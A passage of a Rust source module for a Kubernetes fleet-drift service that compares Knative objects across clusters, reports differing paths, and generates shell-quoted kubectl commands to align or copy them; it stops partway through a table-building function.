//! Fleet drift: clusters of one group (`fleet.groups`) that should hold the same desired state
//! for the objects they compare, and where they do not.
//!
//! One implementation serves the engine's `fleet_divergence` class (members are the clusters it
//! tracks) and the `compare` command (members are snapshots): [`comparable`] cuts an object down
//! to what is compared, [`compare`] lines the members' copies up and names each path whose value
//! differs, with the value every member holds there (`None`: absent). Pure: no I/O, no clock.
//!
//! A member lacks an object only with evidence ([`Held::Missing`]); one that never reported it
//! is unknown ([`Held::NotReported`]) and takes no part: the engine hears of an object through
//! its changes, so silence is no evidence of absence. Snapshots (`compare`) are complete: there
//! an object a snapshot does not hold is missing from it.
//!
//! What is compared, both ways: a ConfigMap's `data` key by key (`_example` is documentation,
//! never configuration), the `spec` down to its leaves (arrays by index; under
//! `spec.template.metadata` only its name and keys that are not bookkeeping; a core Service without the
//! fields the API server allocates), the labels and annotations whose hand edit changes
//! behaviour (`Rules::is_behavioural_key`) and the `app.kubernetes.io/version` label (the
//! Knative release a component runs). Resource quantities compare by value (`quantity.rs`).
//! Not compared: the status, server-set metadata (uid, resourceVersion, generation,
//! timestamps, managers, owners), bookkeeping keys, objects Knative's runtime made (not the
//! Operator's: see [`made_by_knative_runtime`]), and a group's
//! `ignorePaths` (JSON pointers, each a prefix).

use std::collections::BTreeMap;
use std::time::Duration;

use serde_json::{Map, Value};

use super::quantity::{is_quantity_path, same_quantity};
use super::state::ObjectState;
use drift_model::glob::glob_match;
use drift_model::pointer::push_pointer;
use drift_model::text::shell_quote;
use drift_model::Severity;

/// The label that names the Knative release a component (and its ConfigMaps) belongs to.
pub const VERSION_LABEL: &str = "app.kubernetes.io/version";

/// The prefix of the cluster field of a fleet drift: a drift about a group, not one cluster.
pub const CLUSTER_PREFIX: &str = "fleet:";

/// Most divergent paths reported for one object (one huge difference cannot make a huge alert).
pub const MAX_DIVERGENCES: usize = 50;

/// The path a missing object is reported at: the object as a whole.
pub const WHOLE_OBJECT: &str = "";

/// The value a member that holds the object shows at [`WHOLE_OBJECT`].
pub const PRESENT: &str = "present";

/// A glob, with the common exact and match-all patterns checked without the general matcher:
/// membership is tested on every event that changes a compared-looking object.
fn matches(pattern: &str, text: &str) -> bool {
    if pattern == "*" {
        true
    } else if pattern.contains(['*', '?']) {
        glob_match(pattern, text)
    } else {
        pattern == text
    }
}

/// One `compare` entry of a group: which objects its members must hold alike (globs each).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Compared {
    /// `apiVersion` glob (`v1`, `serving.knative.dev/*`).
    pub api_version: String,
    /// Kind glob.
    pub kind: String,
    /// Namespace glob.
    pub namespace: String,
    /// Name glob.
    pub name: String,
}

impl Compared {
    /// True when this entry can select objects of this `apiVersion` and kind (some namespace
    /// and name).
    pub fn may_select(&self, api_version: &str, kind: &str) -> bool {
        matches(&self.kind, kind) && matches(&self.api_version, api_version)
    }

    /// True when this entry selects the object.
    pub fn selects(&self, api_version: &str, kind: &str, namespace: &str, name: &str) -> bool {
        // Kind first: it tells most objects apart with a string comparison.
        matches(&self.kind, kind)
            && matches(&self.api_version, api_version)
            && matches(&self.namespace, namespace)
            && matches(&self.name, name)
    }
}

/// A fleet group, compiled from `fleet.groups[]`.
#[derive(Debug, Clone, PartialEq)]
pub struct FleetGroup {
    /// Unique name (part of each drift's identity).
    pub name: String,
    /// Cluster name globs: the members are the clusters seen that match one.
    pub clusters: Vec<String>,
    /// The objects compared.
    pub compare: Vec<Compared>,
    /// JSON pointers (prefixes) left out of the comparison, e.g. `/data/logging.enable-probe`.
    pub ignore_paths: Vec<String>,
    /// Severity of its drifts.
    pub severity: Severity,
    /// How long a difference may last (a rollout reaching every member) before it fires.
    pub grace: Duration,
}

impl FleetGroup {
    /// True when `cluster` is (or would be, once seen) a member. A fleet drift's own cluster
    /// field (`fleet:<group>`) is never a member.
    pub fn has_member(&self, cluster: &str) -> bool {
        !cluster.starts_with(CLUSTER_PREFIX)
            && self
                .clusters
                .iter()
                .any(|pattern| matches(pattern, cluster))
    }

    /// True when the group compares this tracked object: it names the object, and Knative's
    /// runtime did not make it (an object whose controller `ownerReference` is a Serving or
    /// Eventing object, such as a Revision or a Service's Route, holds names and content that
    /// are each cluster's own). What the Knative Operator installs (its ConfigMaps are owned by
    /// the `KnativeServing`), and what other controllers make (a KServe `InferenceService`'s
    /// Knative Service), is desired state and compared.
    pub fn selects(&self, object: &ObjectState) -> bool {
        self.compares(
            &object.api_version,
            &object.kind,
            &object.namespace,
            &object.name,
        ) && !made_by_knative_runtime(object)
    }

    /// True when the group compares this object.
    pub fn compares(&self, api_version: &str, kind: &str, namespace: &str, name: &str) -> bool {
        self.compare
            .iter()
            .any(|entry| entry.selects(api_version, kind, namespace, name))
    }
}

/// True when a Knative runtime controller (not the Operator) made the object.
pub fn made_by_knative_runtime(object: &ObjectState) -> bool {
    object.controller_owner().is_some_and(|owner| {
        let group = owner
            .api_version
            .split_once('/')
            .map_or("", |(group, _)| group);
        group.ends_with("knative.dev") && group != "operator.knative.dev"
    })
}

/// The identity of a compared object across clusters: the same group, kind, namespace and name
/// in every member (the uid differs per cluster; the served version may too).
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct FleetObject {
    /// `apiVersion` as a member holds it (not part of the identity's comparison below).
    pub api_version: String,
    /// Kind.
    pub kind: String,
    /// Namespace (empty when cluster-scoped).
    pub namespace: String,
    /// Name.
    pub name: String,
}

impl FleetObject {
    /// The fleet identity of a tracked object.
    pub fn of(object: &ObjectState) -> FleetObject {
        FleetObject {
            api_version: object.api_version.clone(),
            kind: object.kind.clone(),
            namespace: object.namespace.clone(),
            name: object.name.clone(),
        }
    }

    /// The API group (empty for core).
    pub fn group(&self) -> &str {
        crate::decode::object::api_group(&self.api_version)
    }

    /// The stable key of the object within a group, the `uid` of its fleet drift:
    /// `Kind.group/namespace/name` (`Kind/namespace/name` for the core group), without the
    /// version so that a member serving another version is the same object.
    pub fn key(&self) -> String {
        let kind = match self.group() {
            "" => self.kind.clone(),
            group => format!("{}.{group}", self.kind),
        };
        if self.namespace.is_empty() {
            format!("{kind}/{}", self.name)
        } else {
            format!("{kind}/{}/{}", self.namespace, self.name)
        }
    }

    /// The cluster field of this object's drift in `group`.
    pub fn drift_cluster(group: &str) -> String {
        format!("{CLUSTER_PREFIX}{group}")
    }
}

/// One path whose value differs among the members, with each member's value there (`None`:
/// absent), in member order.
#[derive(Debug, Clone, PartialEq)]
pub struct Divergence {
    /// JSON pointer into the compared view (`/data/max-scale`, `/spec/template/...`,
    /// `/metadata/labels/app.kubernetes.io~1version`); [`WHOLE_OBJECT`] when the object is
    /// missing from some members.
    pub path: String,
    /// (cluster, value) for every member.
    pub values: Vec<(String, Option<Value>)>,
}

impl Divergence {
    /// The distinct values and the clusters that hold each, in order of first appearance.
    pub fn holders(&self) -> Vec<(Option<&Value>, Vec<&str>)> {
        let mut groups: Vec<(Option<&Value>, Vec<&str>)> = Vec::new();
        for (cluster, value) in &self.values {
            match groups.iter_mut().find(|(held, _)| *held == value.as_ref()) {
                Some((_, clusters)) => clusters.push(cluster),
                None => groups.push((value.as_ref(), vec![cluster])),
            }
        }
        groups
    }

    /// The value most members hold (the first of the most common ones): what the others are
    /// told to align to.
    pub fn majority(&self) -> Option<&Value> {
        let holders = self.holders();
        let most = holders.iter().map(|(_, clusters)| clusters.len()).max();
        holders
            .into_iter()
            .find(|(_, clusters)| Some(clusters.len()) == most)
            .and_then(|(value, _)| value)
    }

    /// The value held by more members than any other (`Some(None)`: most lack it), or `None`
    /// on a tie: no value the others can be told to align to.
    pub fn consensus(&self) -> Option<Option<&Value>> {
        let holders = self.holders();
        let most = holders.iter().map(|(_, clusters)| clusters.len()).max()?;
        let mut leaders = holders
            .into_iter()
            .filter(|(_, clusters)| clusters.len() == most);
        match (leaders.next(), leaders.next()) {
            (Some((value, _)), None) => Some(value),
            _ => None,
        }
    }

    /// The clusters whose value is absent (at [`WHOLE_OBJECT`]: those missing the object).
    pub fn missing(&self) -> Vec<&str> {
        self.values
            .iter()
            .filter(|(_, value)| value.is_none())
            .map(|(cluster, _)| cluster.as_str())
            .collect()
    }

    /// `"100" in prod-eu, prod-us; "50" in staging` (absent values as `absent`).
    pub fn describe(&self) -> String {
        self.holders()
            .into_iter()
            .map(|(value, clusters)| format!("{} in {}", value_text(value), clusters.join(", ")))
            .collect::<Vec<_>>()
            .join("; ")
    }
}

/// A value as people read it: its JSON text (bounded), or `absent`.
pub fn value_text(value: Option<&Value>) -> String {
    match value {
        None => "absent".to_string(),
        Some(value) => {
            let text = value.to_string();
            if text.chars().count() > 200 {
                let mut short: String = text.chars().take(200).collect();
                short.push('…');
                short
            } else {
                text
            }
        }
    }
}

/// The fields of a core `v1` Service's spec that the API server allocates per cluster (an IP,
/// the IP families, a node port): different in every member by nature, never configuration.
const SERVER_ALLOCATED: [&str; 5] = [
    "clusterIP",
    "clusterIPs",
    "ipFamilies",
    "ipFamilyPolicy",
    "healthCheckNodePort",
];

/// What of an object is compared across a fleet, as one JSON object:
/// `{"data": {..}, "spec": {..}, "metadata": {"labels": {..}, "annotations": {..}}}` holding
/// only what is compared (see the module docs). Secret data is compared by its hashes.
/// `behavioural` tells the label and annotation keys compared besides the version label
/// ([`crate::classify::Rules::is_behavioural_key`] and not bookkeeping; passed in so this
/// module and the rules, which hold the groups, do not import each other). The same filter
/// applies under `spec.template.metadata`, as the baseline comparison applies it there: tools
/// and controllers stamp a revision template with keys of their own (`kn`'s user image and
/// update time), which differ per cluster without changing what runs.
pub fn comparable(
    object: &ObjectState,
    behavioural: &dyn Fn(&str) -> bool,
    bookkeeping: &dyn Fn(&str) -> bool,
) -> Value {
    let mut view = Map::new();
    if let Some(data) = &object.data {
        let data: Map<String, Value> = data
            .iter()
            .filter(|(key, _)| key.as_str() != "_example")
            .map(|(key, value)| (key.clone(), Value::String(value.clone())))
            .collect();
        view.insert("data".to_string(), Value::Object(data));
    }
    if !object.spec.is_null() {
        let mut spec = object.spec.value();
        if let Some(Value::Object(metadata)) = spec.pointer_mut("/template/metadata") {
            // The template's name is chosen by whoever deploys; its other metadata (a
            // `creationTimestamp: null` some tools write) is not desired state.
            metadata.retain(|field, _| matches!(field.as_str(), "name" | "labels" | "annotations"));
            // Template labels and annotations are what every Revision gets (an Istio sidecar
            // switch, a team label a NetworkPolicy selects): all compared but tools' bookkeeping
            // (`kn`'s update timestamp).
            for section in ["labels", "annotations"] {
                if let Some(Value::Object(keys)) = metadata.get_mut(section) {
                    keys.retain(|key, _| !bookkeeping(key));
                }
            }
        }
        if object.is_kind("", "Service") && object.api_version == "v1" {
            if let Value::Object(fields) = &mut spec {
                for field in SERVER_ALLOCATED {
                    fields.remove(field);
                }
                if let Some(Value::Array(ports)) = fields.get_mut("ports") {
                    for port in ports.iter_mut() {
                        if let Value::Object(port) = port {
                            port.remove("nodePort");
                        }
                    }
                }
            }
        }
        view.insert("spec".to_string(), spec);
    }
    let kept = |map: &BTreeMap<String, String>, version: bool| -> Map<String, Value> {
        map.iter()
            .filter(|(key, _)| (version && key.as_str() == VERSION_LABEL) || behavioural(key))
            .map(|(key, value)| (key.clone(), Value::String(value.clone())))
            .collect()
    };
    let mut metadata = Map::new();
    let labels = kept(&object.labels, true);
    if !labels.is_empty() {
        metadata.insert("labels".to_string(), Value::Object(labels));
    }
    let annotations = kept(&object.annotations, false);
    if !annotations.is_empty() {
        metadata.insert("annotations".to_string(), Value::Object(annotations));
    }
    if !metadata.is_empty() {
        view.insert("metadata".to_string(), Value::Object(metadata));
    }
    Value::Object(view)
}

/// True when an ignore path (a pointer prefix) covers `pointer`: segment by segment, so
/// `/data/max` does not cover `/data/max-scale`.
fn ignored(ignore_paths: &[String], pointer: &str) -> bool {
    ignore_paths.iter().any(|prefix| {
        pointer == prefix
            || (pointer.starts_with(prefix.as_str())
                && pointer.as_bytes().get(prefix.len()) == Some(&b'/'))
    })
}

/// The leaves of a compared view: pointer → value. Objects and arrays are walked down (arrays
/// by index); an empty object or array has no leaf, so it is the same as absent (as it is to
/// Kubernetes for `data`, labels and most spec fields, and a ConfigMap holding only ignored
/// keys is then the same as one holding none).
fn leaves(view: &Value, ignore_paths: &[String]) -> BTreeMap<String, Value> {
    fn walk(value: &Value, path: &str, ignore_paths: &[String], out: &mut BTreeMap<String, Value>) {
        if ignored(ignore_paths, path) {
            return;
        }
        match value {
            Value::Object(map) => {
                for (key, child) in map {
                    walk(child, &push_pointer(path, key), ignore_paths, out);
                }
            }
            Value::Array(items) => {
                for (index, child) in items.iter().enumerate() {
                    walk(
                        child,
                        &push_pointer(path, &index.to_string()),
                        ignore_paths,
                        out,
                    );
                }
            }
            leaf => {
                out.insert(path.to_string(), leaf.clone());
            }
        }
    }
    let mut out = BTreeMap::new();
    walk(view, "", ignore_paths, &mut out);
    out
}

/// Two members' values at `path` are the same: equal, or the same resource quantity written
/// two ways (`1000m` and `1`, as the baseline comparison reads them).
fn same_leaf(path: &str, a: Option<&Value>, b: Option<&Value>) -> bool {
    match (a, b) {
        (Some(a), Some(b)) => a == b || (is_quantity_path(path) && same_quantity(a, b)),
        (a, b) => a == b,
    }
}

/// Every path at which the members holding a copy (their leaves, at least two) do not all hold
/// the same value, sorted: not capped (the fleet view marks each; [`compare`] caps what an alert
/// carries).
fn differing_paths<'a>(held: &[&'a BTreeMap<String, Value>]) -> Vec<&'a String> {
    if held.len() < 2 {
        return Vec::new();
    }
    let mut paths: Vec<&String> = held.iter().flat_map(|leaves| leaves.keys()).collect();
    paths.sort();
    paths.dedup();
    paths.retain(|path| {
        let first = held[0].get(*path);
        !held
            .iter()
            .all(|leaves| same_leaf(path, leaves.get(*path), first))
    });
    paths
}

/// Compares one object across the members: `members` is every member with evidence about the
/// object ([`evidenced`]) with its copy's compared view ([`comparable`]), `None` where the
/// member lacks the object. Gives the paths whose value differs (both ways: a key one member
/// lacks is a difference), sorted by path, at most [`MAX_DIVERGENCES`]; first, when the object
/// is missing from some members but not all, a [`WHOLE_OBJECT`] entry (`present` or absent per
/// member). Fewer than two members, or an object no member holds, never diverge.
/// `ignore_paths` are pointer prefixes. Resource quantities compare by value.
pub fn compare(members: &[(String, Option<Value>)], ignore_paths: &[String]) -> Vec<Divergence> {
    let mut divergences = Vec::new();
    if members.len() < 2 {
        return divergences;
    }
    let present = members.iter().filter(|(_, view)| view.is_some()).count();
    if present == 0 {
        return divergences;
    }
    if present < members.len() {
        divergences.push(Divergence {
            path: WHOLE_OBJECT.to_string(),
            values: members
                .iter()
                .map(|(cluster, view)| {
                    (
                        cluster.clone(),
                        view.as_ref().map(|_| Value::String(PRESENT.to_string())),
                    )
                })
                .collect(),
        });
    }
    // The members that hold the object are compared among themselves; a missing copy is
    // reported once, above, not at every path.
    let held: Vec<(&str, BTreeMap<String, Value>)> = members
        .iter()
        .filter_map(|(cluster, view)| {
            view.as_ref()
                .map(|view| (cluster.as_str(), leaves(view, ignore_paths)))
        })
        .collect();
    let maps: Vec<&BTreeMap<String, Value>> = held.iter().map(|(_, leaves)| leaves).collect();
    for path in differing_paths(&maps) {
        if divergences.len() >= MAX_DIVERGENCES {
            break;
        }
        divergences.push(Divergence {
            path: path.clone(),
            values: held
                .iter()
                .map(|(cluster, leaves)| (cluster.to_string(), leaves.get(path).cloned()))
                .collect(),
        });
    }
    divergences
}

/// What a member holds of one compared object, as far as the engine knows.
#[derive(Debug, Clone, PartialEq)]
pub enum Held {
    /// Its copy, as [`comparable`] views it.
    Copy(Value),
    /// Evidence that it lacks the object: it reported the object deleted, or an open drift
    /// already names it missing and it has not reported the object since.
    Missing,
    /// It never reported the object: unknown, not missing (its events about the object may
    /// not have come, or the object was never changed since the service watches it).
    NotReported,
}

/// The members with evidence about the object, as [`compare`] takes them (`None`: missing);
/// members that never reported it are left out.
pub fn evidenced(members: &[(String, Held)]) -> Vec<(String, Option<Value>)> {
    members
        .iter()
        .filter_map(|(cluster, held)| match held {
            Held::Copy(view) => Some((cluster.clone(), Some(view.clone()))),
            Held::Missing => Some((cluster.clone(), None)),
            Held::NotReported => None,
        })
        .collect()
}

/// One sentence about an object's divergences: which paths, which clusters hold which value.
/// `scope` names what was compared: `fleet group prod`, or `the snapshots` for `compare`.
pub fn summary(object: &FleetObject, scope: &str, divergences: &[Divergence]) -> String {
    let what = object.key();
    let Some(first) = divergences.first() else {
        return format!("{what} is alike across {scope}");
    };
    if first.path == WHOLE_OBJECT {
        let mut text = format!(
            "{what} is missing from {} in {scope}",
            first.missing().join(", ")
        );
        if divergences.len() > 1 {
            text.push_str(&format!(
                ", and differs where present: {}",
                paths_text(&divergences[1..])
            ));
        }
        return text;
    }
    format!("{what} differs across {scope}: {}", paths_text(divergences))
}

/// `/data/a is "1" in x; "2" in y` for the first few paths, then how many more.
fn paths_text(divergences: &[Divergence]) -> String {
    const SHOWN: usize = 3;
    let mut parts: Vec<String> = divergences
        .iter()
        .take(SHOWN)
        .map(|divergence| format!("{} is {}", divergence.path, divergence.describe()))
        .collect();
    if divergences.len() > SHOWN {
        parts.push(format!("{} more path(s)", divergences.len() - SHOWN));
    }
    parts.join(", ")
}

/// How the hint's commands name the object: `kubectl --context X{namespace} VERB {resource}
/// {name}`.
struct Target<'a> {
    object: &'a FleetObject,
    resource: String,
    namespace: String,
}

impl<'a> Target<'a> {
    fn of(object: &'a FleetObject) -> Target<'a> {
        Target {
            object,
            resource: format!(
                "{}{}",
                object.kind.to_lowercase(),
                match object.group() {
                    "" => String::new(),
                    group => format!(".{group}"),
                }
            ),
            namespace: if object.namespace.is_empty() {
                String::new()
            } else {
                format!(" -n {}", shell_quote(&object.namespace))
            },
        }
    }

    /// `kubectl --context {cluster}{namespace} {verb} {resource} {name}`.
    fn kubectl(&self, cluster: &str, verb: &str) -> String {
        // Cluster and object names come from events: quoted, so a pasted hint runs nothing else.
        format!(
            "kubectl --context {}{} {verb} {} {}",
            shell_quote(cluster),
            self.namespace,
            self.resource,
            shell_quote(&self.object.name)
        )
    }

    /// A runnable copy of the object from `source` into `cluster`, without what the API server
    /// set in `source` (its uid, version, timestamps, managers, owners, status), which `apply`
    /// would refuse or carry over wrongly.
    fn copy(&self, source: &str, cluster: &str) -> String {
        // A core Service's addresses and node ports are allocated per cluster: `apply` would
        // refuse another cluster's.
        let allocated = if self.object.kind == "Service" && self.object.group().is_empty() {
            ",.spec.clusterIP,.spec.clusterIPs,.spec.healthCheckNodePort,.spec.ports[]?.nodePort"
        } else {
            ""
        };
        format!(
            "{} -o json | jq 'del(.metadata.uid,.metadata.resourceVersion,.metadata.creationTimestamp,.metadata.generation,.metadata.managedFields,.metadata.ownerReferences,.status{allocated})' | kubectl --context {} apply -f -",
            self.kubectl(source, "get"),
            shell_quote(cluster)
        )
    }

    /// True for a component of Knative itself (its install namespaces), whose version label
    /// names the Knative release; elsewhere `app.kubernetes.io/version` is the app's own.
    fn is_knative_component(&self) -> bool {
        self.object.namespace.starts_with("knative-")
    }

    /// True when the values at a `data` path are hashes, never values (a Secret's data, a
    /// ConfigMap's `binaryData`): a patch carrying one would write the hash as the value.
    fn hashed(&self, values: &[Option<&Value>]) -> bool {
        self.object.kind == "Secret"
            || values.iter().flatten().any(|value| {
                value.as_str().is_some_and(|text| {
                    text.strip_prefix("sha256:").is_some_and(|hex| {
                        hex.len() == 12 && hex.bytes().all(|byte| byte.is_ascii_hexdigit())
                    })
                })
            })
    }

    /// A runnable copy of one hashed `data` key from `source` into `cluster`: the value is read
    /// from `source` itself, since the service keeps only its hash.
    fn copy_key(&self, key: &str, source: &str, cluster: &str) -> String {
        // A ConfigMap's hashed values are its `binaryData`; a Secret's are its `data`.
        let field = if self.object.kind == "Secret" {
            "data"
        } else {
            "binaryData"
        };
        let key_json = Value::String(key.to_string()).to_string();
        let filter = format!("{{{field}: {{{key_json}: .{field}[{key_json}]}}}}");
        format!(
            "copy key {key} from cluster {source}: {} --type merge -p \"$({} -o json | jq -c '{}')\"",
            self.kubectl(cluster, "patch"),
            self.kubectl(source, "get"),
            filter.replace('\'', "'\\''")
        )
    }
}

/// One step of a hint: a line of its own, a key of a per-cluster merge patch, or a spec path
/// to align by hand.
enum Fix<'a> {
    Line(String),
    Patch {
        cluster: &'a str,
        sections: Vec<String>,
        key: String,
        value: Option<Value>,
    },
    Edit {
        cluster: &'a str,
        path: &'a str,
    },
}

/// The steps that bring every member of one divergence to `toward` (`None`: absent).
fn fixes_toward<'a>(
    target: &Target<'_>,
    divergence: &'a Divergence,
    toward: Option<&Value>,
) -> Vec<Fix<'a>> {
    let segments = drift_model::pointer::pointer_segments(&divergence.path);
    let source = divergence
        .values
        .iter()
        .find(|(_, value)| value.as_ref() == toward)
        .map(|(cluster, _)| cluster.as_str());
    let values: Vec<Option<&Value>> = divergence.values.iter().map(|(_, v)| v.as_ref()).collect();
    let mut fixes = Vec::new();
    for (cluster, value) in &divergence.values {
        if value.as_ref() == toward {
            continue;
        }
        let fix = match segments.iter().map(String::as_str).collect::<Vec<_>>().as_slice() {
            // A release is upgraded as a whole; a patched label would only hide the skew.
            ["metadata", "labels", label] if *label == VERSION_LABEL => Fix::Line(match toward {
                Some(Value::String(version)) if target.is_knative_component() => {
                    format!("upgrade Knative in {cluster} to {version}")
                }
                Some(Value::String(version)) => {
                    format!("deploy version {version} of it in {cluster}")
                }
                _ => format!(
                    "check the Knative release of {cluster}: it is labelled {} where {} carries no {VERSION_LABEL} label",
                    value_text(value.as_ref()),
                    source.unwrap_or("the others")
                ),
            }),
            ["data", key] if toward.is_some() && target.hashed(&values) => match source {
                Some(source) => Fix::Line(target.copy_key(key, source, cluster)),
                None => continue,
            },
            ["data", key] => Fix::Patch {
                cluster,
                sections: vec!["data".to_string()],
                key: key.to_string(),
                value: toward.cloned(),
            },
            ["metadata", section, key] => Fix::Patch {
                cluster,
                sections: vec!["metadata".to_string(), section.to_string()],
                key: key.to_string(),
                value: toward.cloned(),
            },
            _ => Fix::Edit {
                cluster,
                path: &divergence.path,
            },
        };
        fixes.push(fix);
    }
    fixes
}

/// The fixes as command lines: single lines first, then one merge patch per cluster, then one
/// edit per cluster naming its spec paths.
fn render_fixes(target: &Target<'_>, fixes: Vec<Fix<'_>>) -> Vec<String> {
    let mut lines = Vec::new();
    let mut patches: BTreeMap<&str, Map<String, Value>> = BTreeMap::new();
    let mut edits: BTreeMap<&str, Vec<&str>> = BTreeMap::new();
    for fix in fixes {
        match fix {
            Fix::Line(line) => lines.push(line),
            Fix::Patch {
                cluster,
                sections,
                key,
                value,
            } => insert_patch(
                patches.entry(cluster).or_default(),
                &sections.iter().map(String::as_str).collect::<Vec<_>>(),
                &key,
                &value,
            ),
            Fix::Edit { cluster, path } => edits.entry(cluster).or_default().push(path),
        }
    }
    for (cluster, patch) in patches {
        lines.push(format!(
            "{} --type merge -p '{}'",
            target.kubectl(cluster, "patch"),
            Value::Object(patch).to_string().replace('\'', "'\\''")
        ));
    }
    for (cluster, paths) in edits {
        lines.push(format!(
            "{}  # align {}",
            target.kubectl(cluster, "edit"),
            paths.join(", ")
        ));
    }
    lines
}

/// The hint for an object some members lack: add it where it is missing (from Git, or a copy
/// from a member that holds it); when no more members hold it than lack it, deleting it from
/// the holders is named as the other way.
fn missing_hint(target: &Target<'_>, whole: &Divergence, lines: &mut Vec<String>) {
    let missing = whole.missing();
    let holding: Vec<&str> = whole
        .values
        .iter()
        .filter(|(_, value)| value.is_some())
        .map(|(cluster, _)| cluster.as_str())
        .collect();
    let Some(source) = holding.first() else {
        return;
    };
    let both_ways = holding.len() <= missing.len();
    if both_ways {
        lines.push(format!(
            "{} is in {} but not in {}: add it to {} or delete it from {}",
            target.object.key(),
            holding.join(", "),
            missing.join(", "),
            missing.join(", "),
            holding.join(", ")
        ));
    }
    for cluster in &missing {
        lines.push(format!(
            "add it to {cluster} from Git, or copy it from {source}: {}",
            target.copy(source, cluster)
        ));
    }
    if both_ways {
        for cluster in &holding {
            lines.push(format!(
                "or delete it from {cluster}: {}",
                target.kubectl(cluster, "delete")
            ));
        }
    }
}

/// A runnable fix, each command naming a cluster by `kubectl --context <cluster>` (cluster
/// names are taken to be kubectl context names). Per path, the members that do not hold the
/// value most members hold are aligned to it: a merge patch of the differing `data` keys,
/// labels and annotations; an upgrade of Knative for a version skew; a copy of the key from a
/// member that holds it for a hashed value (a Secret's data, a ConfigMap's `binaryData`: the
/// service keeps only hashes, which a patch would write as values); an edit for spec fields.
/// A path without a majority (a tie) gets no single direction: every way is named. A missing
/// object: see [`missing_hint`].
pub fn hint(object: &FleetObject, divergences: &[Divergence]) -> Option<String> {
    let target = Target::of(object);
    let mut lines = Vec::new();
    let mut fixes = Vec::new();
    for divergence in divergences {
        if divergence.path == WHOLE_OBJECT {
            missing_hint(&target, divergence, &mut lines);
            continue;
        }
        match divergence.consensus() {
            Some(toward) => fixes.extend(fixes_toward(&target, divergence, toward)),
            None => {
                lines.push(format!(
                    "no majority for {} ({}): align either way",
                    divergence.path,
                    divergence.describe()
                ));
                for (index, (value, _)) in divergence.holders().into_iter().enumerate() {
                    for (line_index, line) in
                        render_fixes(&target, fixes_toward(&target, divergence, value))
                            .into_iter()
                            .enumerate()
                    {
                        lines.push(if index > 0 && line_index == 0 {
                            format!("or {line}")
                        } else {
                            line
                        });
                    }
                }
            }
        }
    }
    lines.extend(render_fixes(&target, fixes));
    (!lines.is_empty()).then(|| lines.join("\n"))
}

/// Sets `key` under the nested `sections` of a merge patch (`null` removes it).
fn insert_patch(
    patch: &mut Map<String, Value>,
    sections: &[&str],
    key: &str,
    value: &Option<Value>,
) {
    let mut map = patch;
    for section in sections {
        let entry = map
            .entry(section.to_string())
            .or_insert_with(|| Value::Object(Map::new()));
        if !entry.is_object() {
            *entry = Value::Object(Map::new());
        }
        let Value::Object(inner) = entry else {
            return;
        };
        map = inner;
    }
    map.insert(key.to_string(), value.clone().unwrap_or(Value::Null));
}

/// Longest string value the `values` fact carries (in characters); a longer one is cut and
/// ends in `…`, as [`value_text`] shows values elsewhere: a drift's facts travel in every
/// alert and API answer.
const MAX_FACT_VALUE: usize = 200;

/// The divergences as a JSON fact: `[{"path", "values": {cluster: value or null}}]`, what the
/// API, the dashboard and the messages read to show which cluster holds which value. Long
/// string values are cut to [`MAX_FACT_VALUE`] characters.
pub fn values_fact(divergences: &[Divergence]) -> String {
    let bounded = |value: &Option<Value>| match value {
        Some(Value::String(text)) if text.chars().count() > MAX_FACT_VALUE => {
            let mut short: String = text.chars().take(MAX_FACT_VALUE).collect();
            short.push('…');
            Value::String(short)
        }
        Some(value) => value.clone(),
        None => Value::Null,
    };
    Value::Array(
        divergences
            .iter()
            .map(|divergence| {
                let values: Map<String, Value> = divergence
                    .values
                    .iter()
                    .map(|(cluster, value)| (cluster.clone(), bounded(value)))
                    .collect();
                serde_json::json!({"path": divergence.path, "values": values})
            })
            .collect(),
    )
    .to_string()
}

/// Most rows of one object in the fleet view (the leaves of a large spec are many).
pub const MAX_ROWS: usize = 200;

/// One member's cell in a row of the fleet view.
#[derive(Debug, Clone, PartialEq)]
pub struct Cell {
    /// Its value (`None`: absent, or not reported).
    pub value: Option<Value>,
    /// False when the member never reported the object (shown `not reported`, never
    /// highlighted).
    pub reported: bool,
    /// True when the cell differs from what most members hold (every compared cell of a row
    /// without a majority).
    pub highlighted: bool,
}

/// One row of an object's cluster-by-cluster table: a path, each member's cell there, and
/// whether the members that report the object differ.
#[derive(Debug, Clone, PartialEq)]
pub struct Row {
    /// JSON pointer ([`WHOLE_OBJECT`] for the row that says which members hold the object).
    pub path: String,
    /// Each member's cell, in member order.
    pub values: Vec<Cell>,
    /// True when the members do not all hold the same value.
    pub differs: bool,
}

/// The cells of a row whose compared members are `compared` (indexes into `values`):
/// highlighted where they differ from the consensus, all of them without one.
fn highlight(path: &str, values: &[Option<&Value>], compared: &[usize]) -> Vec<bool> {
    let mut groups: Vec<(Option<&Value>, usize)> = Vec::new();
    for &index in compared {
        let value = values[index];
        match groups
            .iter_mut()
            .find(|(held, _)| same_leaf(path, *held, value))
        {
            Some((_, count)) => *count += 1,
            None => groups.push((value, 1)),
        }
    }
    let most = groups.iter().map(|(_, count)| *count).max().unwrap_or(0);
    let mut leaders = groups.iter().filter(|(_, count)| *count == most);
    let consensus = match (leaders.next(), leaders.next()) {
        (Some((value, _)), None) => Some(*value),
        _ => None,
    };
    let mut out = vec![false; values.len()];
    for &index in compared {
        out[index] = match consensus {
            Some(consensus) => !same_leaf(path, values[index], consensus),
            None => true,
        };
    }
    out
}

/// The cluster-by-cluster table of one object: every compared path any member holds (up to
/// [`MAX_ROWS`], differing rows first so none is cut), with the [`WHOLE_OBJECT`] row first
/// when a member is known to lack the object. Every differing path is marked, however many
/// (the alert's [`MAX_DIVERGENCES`] does not cap the table). A member that lacks the object
/// shows absent on every row; one that never reported it shows `not reported` and takes no
/// part in the comparison.
pub fn rows(members: &[(String, Held)], ignore_paths: &[String]) -> Vec<Row> {
    // Per member: None (not reported), Some(None) (missing), Some(Some(leaves)).
    let flat: Vec<Option<Option<BTreeMap<String, Value>>>> = members
        .iter()
        .map(|(_, held)| match held {
            Held::Copy(view) => Some(Some(leaves(view, ignore_paths))),
            Held::Missing => Some(None),
            Held::NotReported => None,
        })
        .collect();
    let reported: Vec<usize> = (0..flat.len()).filter(|&i| flat[i].is_some()).collect();
    let holding: Vec<usize> = (0..flat.len())
        .filter(|&i| matches!(flat[i], Some(Some(_))))
        .collect();
    let mut rows = Vec::new();
    let present = Value::String(PRESENT.to_string());
    if reported.len() >= 2 && !holding.is_empty() && holding.len() < reported.len() {
        let values: Vec<Option<&Value>> = flat
            .iter()
            .map(|cell| matches!(cell, Some(Some(_))).then_some(&present))
            .collect();
